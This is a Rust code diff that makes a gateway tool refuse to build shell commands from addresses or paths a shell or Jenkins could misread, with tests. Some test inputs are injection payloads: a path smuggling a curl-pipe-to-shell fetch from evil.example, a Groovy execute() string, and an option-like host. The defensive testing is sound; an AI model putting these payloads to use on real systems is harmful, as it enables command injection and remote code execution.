@@ -15,7 +15,13 @@ pub(super) struct Command {
 /// Returns the commands for a service of the gateway at `authority`, which is a host and perhaps a port
 /// (docs/operating/tools.md). They contain no token, because a command stays in the history of the shell. They do not pass
 /// the token as an argument, because other users of the system see the arguments of a program.
+///
+/// There are no commands if a shell, or the language of Jenkins, could read a part of the address as a command. The path
+/// may come from Eureka, where a program registers any text, and the authority from the client.
 pub(super) fn commands_for(authority: &str, service: &Service) -> Vec<Command> {
+    if !is_literal(authority) || !is_literal(&service.path) {
+        return Vec::new();
+    }
     let (host, port) = split(authority);
     let path = service.path.trim_end_matches('/');
     let base = path.trim_start_matches('/');
@@ -67,6 +73,13 @@ pub(super) fn commands_for(authority: &str, service: &Service) -> Vec<Command> {
     ]
 }
 
+/// Returns whether all programs that read the commands take a text literally: it has only letters, digits and a few
+/// other characters, and no program takes it as an option.
+fn is_literal(text: &str) -> bool {
+    let is_literal = |byte: u8| byte.is_ascii_alphanumeric() || b"/-._~:[]".contains(&byte);
+    !text.starts_with('-') && text.bytes().all(is_literal)
+}
+
 /// Splits an address into host and port.
 fn split(authority: &str) -> (&str, &str) {
     match authority.rsplit_once(':') {
@@ -108,5 +121,27 @@ mod tests {
         {
             assert_eq!(split(authority), want);
         }
+    }
+
+    #[test]
+    fn addresses_that_could_be_commands_get_none() {
+        let commands = |authority: &str, path: &str| {
+            let (id, path) = ("files".to_owned(), path.to_owned());
+            commands_for(authority, &Service { id, title: None, description: None, path }).len()
+        };
+        assert_eq!(commands("[::1]:8443", "/files/api/v1.0/a-b_c~d"), 5);
+        for byte in (0..=0xffu8).map(char::from).filter(|char| !char.is_ascii_alphanumeric()) {
+            let is_harmless = "/-._~:[]".contains(byte);
+            for (authority, path) in [
+                (format!("gw{byte}x"), "/files".to_owned()),
+                ("gw".to_owned(), format!("/f{byte}")),
+            ] {
+                let want = if is_harmless { 5 } else { 0 };
+                assert_eq!(commands(&authority, &path), want, "{authority:?} {path:?}");
+            }
+        }
+        assert_eq!(commands("-o.example", "/files"), 0);
+        assert_eq!(commands("gw", "/files/v1; curl -s https://evil.example | sh; #"), 0);
+        assert_eq!(commands("gw", "/files/v1'+'id'.execute()+'"), 0);
     }
 }
